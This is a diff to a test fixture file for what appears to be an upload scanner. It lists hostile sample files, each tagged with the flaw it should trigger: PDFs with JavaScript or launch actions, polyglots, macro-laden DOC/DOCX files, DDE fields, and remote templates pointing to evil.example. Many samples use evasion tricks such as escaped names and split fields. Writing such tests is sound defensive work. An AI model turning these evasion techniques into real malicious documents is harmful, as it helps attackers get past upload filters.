@@ -1,12 +1,91 @@
+import { deflateSync } from "node:zlib";
 import type { Flaw } from "#server/uploads/flaw.ts";
-import { DOCX_PARTS, sampleDoc, sampleDocx, sampleJpg, samplePdf, samplePng, sampleZip } from "./sample-files.ts";
+import {
+  DOCX_PARTS,
+  pngChunk,
+  sampleDoc,
+  sampleDocx,
+  sampleJpg,
+  samplePdf,
+  samplePng,
+  sampleZip,
+  type ZipPart,
+} from "./sample-files.ts";
 
 const WORD = { name: "WordDocument", type: 2 } as const;
 const MEGABYTE = 1024 * 1024;
 const big = Buffer.alloc(60 * MEGABYTE);
 
+const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
 const contentTypes = (...types: string[]) =>
   `<Types>${types.map((type) => `<Override PartName="/word/document.xml" ContentType="${type}"/>`).join("")}</Types>`;
+
+/** A Word document with these content types, document and other parts. */
+const wordWith = (types: string, document = "<w:document/>", more: readonly ZipPart[] = []) =>
+  sampleZip([{ name: "[Content_Types].xml", data: types }, { name: "word/document.xml", data: document }, ...more]);
+export const withDocument = (document: string) => wordWith(contentTypes(WORD_MAIN), document);
+const withPart = (name: string, data: string | Buffer) => sampleDocx([{ name, data }]);
+const RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+export const withRelationship = (type: string, target: string, mode = "External") =>
+  withPart(
+    "word/_rels/settings.xml.rels",
+    `<Relationships><Relationship Id="a" Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  );
+
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+export const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
+export const field = (...codes: string[]) =>
+  `<w:p>${mark("begin")}${codes.join("")}${mark("separate")}${mark("end")}</w:p>`;
+
+const utf16 = (xml: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]);
+const bytesOf = (text: string) => Buffer.from(text, "latin1");
+/** A PDF with one more object. */
+export const pdfWith = (object: string | Buffer, more = "") =>
+  Buffer.concat([
+    bytesOf("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n9 0 obj\n"),
+    Buffer.from(object),
+    bytesOf(`\nendobj\n${more}trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`),
+  ]);
+/** An object stream that holds one object. */
+export const objectStream = (
+  object: string,
+  dictionary = "/Filter/FlateDecode",
+  pack: (bytes: Buffer) => Buffer = (bytes) => deflateSync(bytes),
+) => {
+  const head = "7 0 ";
+  const packed = pack(Buffer.from(head + object));
+  return Buffer.concat([
+    bytesOf(`<</Type/ObjStm/N 1/First ${head.length}/Length ${packed.length}${dictionary}>>\nstream\n`),
+    packed,
+    bytesOf("\nendstream"),
+  ]);
+};
+const asIs = (bytes: Buffer) => bytes;
+/** A PDF inside the comment of a ZIP that begins in the PDF: each program finds its own file. */
+const pdfAndZip = () => {
+  const pdf = samplePdf();
+  const archive = sampleZip([{ name: "a.exe", data: "MZ" }]);
+  archive.writeUInt16LE(60, archive.length - 2);
+  return Buffer.concat([pdf.subarray(0, 15), archive, pdf.subarray(15)]);
+};
+/** The first line of a PDF in a sector that nobody uses. */
+const withPdfHead = (doc: Buffer) => {
+  const copy = Buffer.from(doc);
+  copy.write("%PDF-1.4", 900, "latin1");
+  return copy;
+};
+const withComment = (jpg: Buffer, comment: Buffer) => {
+  const head = Buffer.from([0xff, 0xfe, 0, 0]);
+  head.writeUInt16BE(comment.length + 2, 2);
+  return Buffer.concat([jpg.subarray(0, 2), head, comment, jpg.subarray(2)]);
+};
+/** An archive whose comment is the rest of the picture. */
+const pngWithChunk = () => {
+  const png = samplePng();
+  const archive = sampleZip([{ name: "a", data: "x" }]);
+  return Buffer.concat([png.subarray(0, 33), pngChunk("zIPf", archive), png.subarray(33)]);
+};
+const compound = Buffer.from("d0cf11e0a1b11ae1", "hex");
 
 /** Files that nobody may leave here, and what is wrong with each. */
 export const HOSTILE_FILES: readonly (readonly [name: string, bytes: Buffer, flaw: Flaw])[] = [
@@ -36,6 +115,62 @@ export const HOSTILE_FILES: readonly (readonly [name: string, bytes: Buffer, fla
     "damaged",
   ],
   ["a PDF without objects", Buffer.from("%PDF-1.4\nstartxref\n3\n%%EOF\n"), "damaged"],
+  ["a PDF with a script", pdfWith("<</S/JavaScript/JS(app.alert\\(1\\))>>"), "scripts"],
+  ["a PDF with a script in its names", pdfWith("<</Names<</JavaScript 8 0 R>>>>"), "scripts"],
+  ["a PDF with a script under an escaped name", pdfWith("<</S/J#61v#61Scrip#74/J#53(x)>>"), "scripts"],
+  ["a PDF with a script in a rendition", pdfWith("<</S/Rendition/J#53 8 0 R>>"), "scripts"],
+  ["a PDF with a script that runs when it opens", pdfWith("<</OpenAction<</S/JavaScript/JS(x)>>>>"), "scripts"],
+  ["a PDF with a script behind a comment", pdfWith("%(\n<</S%)\n/JavaScript>>"), "scripts"],
+  ["a PDF with a script in a list", pdfWith("[[<</A[(]\\)]) 1 0 R<</S/JavaScript>>]>>]]"), "scripts"],
+  ["a PDF whose script begins inside a text", pdfWith("(8 0 obj<</S/JavaScript/JS(x)>>)"), "scripts"],
+  ["a PDF whose script lies in a stream", pdfWith("<<>>stream\n8 0 obj<</S/JavaScript>>endobj\nendstream"), "scripts"],
+  ["a PDF that starts a program", pdfWith("<</S/Launch/Win<</F(cmd.exe)>>>>"), "scripts"],
+  ["a PDF with an XFA form", pdfWith("<</AcroForm<</XFA 8 0 R>>>>"), "scripts"],
+  ["a PDF with a script in an object stream", pdfWith(objectStream("<</S/JavaScript/JS(x)>>")), "scripts"],
+  ["a PDF with an escaped script in an object stream", pdfWith(objectStream("<</S/#4aavaScript/JS(x)>>")), "scripts"],
+  ["a PDF with a script in a plain object stream", pdfWith(objectStream("<</S/Launch>>", "", asIs)), "scripts"],
+  [
+    "a PDF with an object stream that says it is none",
+    pdfWith(bytesOf(objectStream("<</S/Launch>>").toString("latin1").replace("/Type/ObjStm", "/Type/XObject"))),
+    "scripts",
+  ],
+  [
+    "a PDF with an object stream packed twice",
+    pdfWith(objectStream("x", "/Filter[/ASCIIHexDecode/FlateDecode]")),
+    "damaged",
+  ],
+  [
+    "a PDF with an object stream with a predictor",
+    pdfWith(objectStream("x", "/Filter/FlateDecode/DecodeParms<<>>")),
+    "damaged",
+  ],
+  ["a PDF with an object stream that bursts", pdfWith(objectStream(`(${" ".repeat(60 * MEGABYTE)})`)), "bomb"],
+  ["a PDF with a file in it", pdfWith("<</Names<</EmbeddedFiles 8 0 R>>>>"), "embedded"],
+  ["a PDF with a file in a note", pdfWith("<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 8 0 R>>>>>>"), "embedded"],
+  ["a PDF that opens another", pdfWith("<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>"), "remote"],
+  ["a PDF with a password", pdfWith("<<>>", "trailer<</Encrypt 8 0 R>>\n"), "locked"],
+  ["a PDF that is an archive too", pdfAndZip(), "ambiguous"],
+  ["a PDF with an archive behind it", Buffer.concat([samplePdf(), sampleZip([{ name: "a", data: "x" }])]), "ambiguous"],
+  [
+    "a PDF that is a page too",
+    bytesOf(samplePdf().toString("latin1").replace("\n", "\n%<html><script>x</script>\n")),
+    "ambiguous",
+  ],
+  ["a PDF with a page behind it", Buffer.concat([samplePdf(), bytesOf("<script>x</script>")]), "ambiguous"],
+  [
+    "a JPEG with an archive behind it",
+    Buffer.concat([sampleJpg(), sampleZip([{ name: "a", data: "x" }])]),
+    "ambiguous",
+  ],
+  [
+    "a JPEG with an archive behind some bytes",
+    Buffer.concat([sampleJpg(), Buffer.from("more"), sampleZip([{ name: "a", data: "x" }])]),
+    "ambiguous",
+  ],
+  ["a JPEG with a page behind it", Buffer.concat([sampleJpg(), bytesOf("\n <!DOCTYPE html><p>x")]), "ambiguous"],
+  ["a JPEG with a program behind it", Buffer.concat([sampleJpg(), bytesOf("MZ\u0090\0")]), "ambiguous"],
+  ["a JPEG with a PDF in its comment", withComment(sampleJpg(), samplePdf()), "ambiguous"],
+  ["a PNG with a ZIP in a chunk", pngWithChunk(), "ambiguous"],
   ["a PNG with a ZIP behind it", Buffer.concat([samplePng(), sampleDocx()]), "damaged"],
   ["a PNG that paints a continent", samplePng({ width: 60_000, height: 60_000 }), "bomb"],
   ["a PNG of no size", samplePng({ width: 0 }), "damaged"],
@@ -44,6 +179,14 @@ export const HOSTILE_FILES: readonly (readonly [name: string, bytes: Buffer, fla
   ["a compound file that is a spreadsheet", sampleDoc([{ name: "Workbook", type: 2 }]), "otherType"],
   ["a compound file whose WordDocument is a folder", sampleDoc([{ name: "WordDocument", type: 1 }]), "otherType"],
   ["a DOC with macros", sampleDoc([WORD, { name: "Macros", type: 1 }]), "macros"],
+  ["a DOC with macros under another case", sampleDoc([WORD, { name: "mACROS", type: 1 }]), "macros"],
+  ["a DOC with the macros of a book", sampleDoc([WORD, { name: "_vba_project_cur", type: 1 }]), "macros"],
+  ["a DOC with a macro project", sampleDoc([WORD, { name: "_Vba_Project", type: 2 }]), "macros"],
+  ["a DOC with a file in it", sampleDoc([WORD, { name: "\u0001Ole10Native", type: 2 }]), "embedded"],
+  ["a DOC with an object in it", sampleDoc([WORD, { name: "_1234567890", type: 1 }]), "embedded"],
+  ["a DOC with a DDE field", Buffer.concat([sampleDoc(), Buffer.from("\u0013 DdeAuto c:\\x", "utf16le")]), "remote"],
+  ["a DOC that is an archive too", Buffer.concat([sampleDoc(), sampleZip([{ name: "a", data: "x" }])]), "ambiguous"],
+  ["a DOC that is a PDF too", withPdfHead(sampleDoc()), "ambiguous"],
   ["a DOC with a password", sampleDoc([WORD], { encrypted: true }), "locked"],
   ["a DOCX with a password", sampleDoc([{ name: "EncryptedPackage", type: 2 }]), "locked"],
   ["a compound file that runs in circles", sampleDoc([WORD], { loop: true }), "damaged"],
@@ -65,6 +208,107 @@ export const HOSTILE_FILES: readonly (readonly [name: string, bytes: Buffer, fla
     ]),
     "macros",
   ],
+  [
+    "a macro document whose type is written with entities",
+    wordWith(contentTypes("application/vnd.ms-word.document.&#109;acro&#x45;nabled.main+xml", WORD_MAIN)),
+    "macros",
+  ],
+  [
+    "a macro document whose other type is in a comment",
+    wordWith(`<Types><!-- ${WORD_MAIN} --><Override PartName="/word/document.xml" ContentType="x"/></Types>`),
+    "otherType",
+  ],
+  [
+    "a macro document by its types in UTF-16",
+    sampleZip([
+      {
+        name: "[Content_Types].xml",
+        data: utf16(contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml")),
+      },
+      DOCX_PARTS[1] as never,
+    ]),
+    "macros",
+  ],
+  [
+    "a macro project under another name",
+    wordWith(
+      `<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`,
+      undefined,
+      [{ name: "word/a.dat", data: "x" }],
+    ),
+    "macros",
+  ],
+  [
+    "a macro project by its relationship",
+    withPart(
+      "word/_rels/document.xml.rels",
+      '<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/&#118;baProject" Target="a.dat"/></Relationships>',
+    ),
+    "macros",
+  ],
+  ["a DOCX with a compound file under a harmless name", withPart("word/media/a.png", compound), "embedded"],
+  ["a DOCX with an embedded object", withRelationship("oleObject", "embeddings/a.bin", "Internal"), "embedded"],
+  ["a DOCX with an ActiveX control", withRelationship("control", "activeX/a.xml", "Internal"), "embedded"],
+  ["a DOCX with a page of HTML in it", withRelationship("aFChunk", "a.mht", "Internal"), "embedded"],
+  [
+    "a DOCX with a template from the web",
+    withRelationship("attachedTemplate", "https://evil.example/a.dotm"),
+    "remote",
+  ],
+  ["a DOCX with a template from a share", withRelationship("attachedTemplate", "\\\\evil.example\\a.dotm"), "remote"],
+  [
+    "a DOCX with a template from a share as a URL",
+    withRelationship("attachedTemplate", "file://evil.example/a.dotm"),
+    "remote",
+  ],
+  [
+    "a DOCX with a template from a share as a long URL",
+    withRelationship("attachedTemplate", "file://///evil/a.dotm"),
+    "remote",
+  ],
+  [
+    "a DOCX with a template whose address hides",
+    withRelationship("attachedTemplate", "ht&#10;tp&#58;//evil.example/a"),
+    "remote",
+  ],
+  ["a DOCX with a picture from a share", withRelationship("image", "file://evil.example/a.png"), "remote"],
+  ["a DOCX with a frame from the web", withRelationship("frame", "http://evil.example/a"), "remote"],
+  ["a DOCX with a DDE field", withDocument(`<w:document>${field(code(" DDEAUTO c:\\\\x"))}</w:document>`), "remote"],
+  [
+    "a DOCX with a simple DDE field",
+    withDocument('<w:document><w:fldSimple w:instr=" dde excel"/></w:document>'),
+    "remote",
+  ],
+  [
+    "a DOCX with a DDE field in pieces",
+    withDocument(`<w:document>${field(code(" D"), code("<!-- -->DE"), code("<![CDATA[AU]]>TO c:"))}</w:document>`),
+    "remote",
+  ],
+  [
+    "a DOCX with a DDE field under another prefix",
+    withDocument(`<w:document>${field(code("DDE x")).replaceAll("w:", "x:")}</w:document>`),
+    "remote",
+  ],
+  [
+    "a DOCX with a field whose name is computed",
+    withDocument(`<w:document>${field(field(code("QUOTE 68 68 69")), code(" c:"))}</w:document>`),
+    "remote",
+  ],
+  [
+    "a DOCX with a DDE field in a header of UTF-16",
+    sampleDocx([{ name: "word/a.dat", data: utf16(`<w:hdr>${field(code("DDE x"))}</w:hdr>`) }]),
+    "remote",
+  ],
+  ["a DOCX with a DTD", withDocument('<!DOCTYPE a [<!ENTITY b "c">]><w:document/>'), "damaged"],
+  ["a DOCX in an encoding of its own", withDocument('<?xml version="1.0" encoding="utf-7"?><w:document/>'), "damaged"],
+  ["a DOCX whose XML does not end", withDocument("<w:document>"), "damaged"],
+  ["a DOCX whose document is no XML", withDocument("x"), "damaged"],
+  [
+    "a DOCX of 5,000 parts",
+    sampleDocx(Array.from({ length: 5_000 }, (_, index) => ({ name: `${index}`, data: "x", stored: true }))),
+    "tooComplex",
+  ],
+  ["a DOCX that is a PDF too", sampleZip([{ name: "a", data: samplePdf(), stored: true }, ...DOCX_PARTS]), "ambiguous"],
   [
     "a DOCX that unpacks to 300 MB",
     sampleDocx(Array.from({ length: 5 }, (_, index) => ({ name: `${index}`, data: big }))),
